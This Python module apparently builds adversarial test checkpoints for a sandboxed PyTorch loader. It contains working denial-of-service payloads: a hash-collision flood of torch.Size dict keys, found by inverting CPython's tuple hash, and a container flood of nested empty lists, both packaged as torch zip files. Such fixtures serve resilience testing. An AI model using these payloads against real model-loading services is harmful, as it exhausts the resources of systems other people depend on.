"""Checkpoints that make the *parent* pay: hash floods and container floods.

The child parses them quickly (its stand-ins hash by identity); what they target is the
process that rebuilds the description. Hand-assembled protocol-2 pickles, so building one
never builds the structure it describes (a dict of colliding keys costs quadratic time).
"""

from __future__ import annotations

import io
import zipfile

# CPython's tuple hash (xxHash-based, 64-bit): acc = P5; per item acc = rotl(acc + h*P2, 31)
# * P1; then acc += len ^ (P5 ^ 3527539).
_M = (1 << 64) - 1
_P1, _P2, _P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
_INT_MODULUS = (1 << 61) - 1  # hash(n) == n for 0 <= n < this


def _round(acc: int, lane: int) -> int:
    acc = (acc + lane * _P2) & _M
    acc = ((acc << 31) | (acc >> 33)) & _M
    return (acc * _P1) & _M


def colliding_pairs(n: int) -> list[tuple[int, int]]:
    """``n`` distinct pairs of non-negative ints whose tuples (and ``torch.Size``) all hash
    alike: for each first item ``a``, the second is solved so that the sum entering the
    second round equals the one ``(0, 0)`` produces; the rounds after it are then equal."""
    inverse = pow(_P2, -1, 1 << 64)
    entering = _round(_P5, 0)  # + 0 * P2, for the pair (0, 0)
    pairs, a = [], 0
    while len(pairs) < n:
        b = ((entering - _round(_P5, a)) * inverse) & _M
        if b < _INT_MODULUS:  # an int whose hash is b itself (about one a in eight)
            pairs.append((a, b))
        a += 1
    return pairs


def _int(value: int) -> bytes:
    if value < 256:
        return b"K" + bytes([value])
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little")
    return b"\x8a" + bytes([len(raw)]) + raw  # LONG1


def size_key_flood(n: int) -> bytes:
    """``{torch.Size([a, b]): 0, ...}`` with ``n`` keys whose hashes all collide."""
    out = [b"\x80\x02}("]  # EMPTY_DICT MARK
    cls = b"ctorch\nSize\nq\x01"  # GLOBAL torch.Size, memoized; then fetched by BINGET
    for a, b in colliding_pairs(n):
        out.append(cls + _int(a) + _int(b) + b"\x86\x85RK\x00")  # Size((a, b)): 0
        cls = b"h\x01"
    out.append(b"u.")  # SETITEMS
    return b"".join(out)


def container_flood(n: int) -> bytes:
    """A list of ``n`` empty lists: about one byte of file per container."""
    return b"\x80\x02](" + b"]" * n + b"e."


def as_checkpoint(data_pkl: bytes) -> bytes:
    """The pickle as ``archive/data.pkl`` of a torch zip, as ``torch.save`` writes it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()
